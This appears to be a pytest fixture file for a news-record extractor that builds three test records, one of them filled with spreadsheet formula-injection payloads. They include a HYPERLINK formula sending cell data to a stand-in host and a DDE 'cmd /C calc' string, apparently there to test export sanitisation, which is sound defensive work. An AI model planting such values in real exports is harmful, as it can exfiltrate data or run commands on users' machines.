"""A small store: a handover in Ambon, a post full of cells that mean harm, a post that tells of nothing."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from extractor.records import Record
from extractor.store import Store

HOSTILE = {
    "title": '=HYPERLINK("http://evil.example/?"&A1;"klik")',
    "author": "@SUM(1+1)*cmd|' /C calc'!A0",
    "person": "-2+3|cmd",
    "alias": "\t=1+1",
    "role": "\u202e=1+1\u202c terbalik",
    "warning": "satu\r\n=dua\x07\x00",
    "message": "+62 812",
    "outlet": 'Koran; "Kota"\u200f',
}


@pytest.fixture
def records(record) -> list[Record]:
    """The posts of the store."""
    return [Record.model_validate(one) for one in (_handover(record), _hostile(record), _silent(record))]


@pytest.fixture
def store(tmp_path, records):
    """A store that holds them."""
    with Store(tmp_path / "news.db") as opened:
        run = opened.begin_run("test")
        counts = opened.upsert(records, run)
        opened.end_run(run, "finished", counts, 0)
        yield opened


@pytest.fixture
def out(tmp_path) -> Path:
    """Where exports go."""
    return tmp_path / "out"


def _copy(record: dict[str, Any], id_: str, **article: Any) -> dict[str, Any]:
    source = record["article"]["source"] | {"sha256": id_ * 4, "path": f"posts/{id_}.txt"}
    return record | {"id": id_, "article": record["article"] | {"source": source} | article}


def _handover(record: dict[str, Any]) -> dict[str, Any]:
    made = _copy(
        record,
        "0000000000000001",
        url="https://koran.example/santunan",
        outlet="Koran Contoh",
        published="2022-08-26T08:41:00+09:00",
        published_precision="minute",
    )
    place = record["places"][0] | {"kind": "district", "code": "81.71.01", "province_code": "81"}
    half = record["amounts"][0] | {
        "id": "m2",
        "value": 0.5,
        "currency": "USD",
        "start": None,
        "end": None,
        "text": None,
    }
    event = record["events"][0] | {"amounts": ["m1", "m2"]}
    event["participants"] = [{"entity": "p1", "role": "giver"}, {"entity": "o1", "role": "organizer"}]
    return made | {"places": [place], "amounts": [record["amounts"][0], half], "events": [event]}


def _hostile(record: dict[str, Any]) -> dict[str, Any]:
    made = _copy(
        record,
        "12345678901234e5",
        title=HOSTILE["title"],
        author=HOSTILE["author"],
        outlet=HOSTILE["outlet"],
        url="https://koran.example/a?b=1&c=2",
        published="2022",
        published_precision="year",
    )
    person = record["people"][0] | {"name": HOSTILE["person"], "aliases": [HOSTILE["alias"], "Pak Kadis"]}
    person["roles"] = [person["roles"][0] | {"text": HOSTILE["role"]}]
    warning = {"code": "number_format", "text": HOSTILE["warning"], "message": HOSTILE["message"]}
    undated = record["events"][0] | {"date": None, "place": None}
    return made | {"people": [person], "warnings": [warning], "events": [undated]}


def _silent(record: dict[str, Any]) -> dict[str, Any]:
    made = _copy(record, "00000000000000ff", title=None, published=None, published_precision=None)
    return made | {"events": [], "people": [], "quotes": [], "amounts": [], "quantities": [], "programs": []}
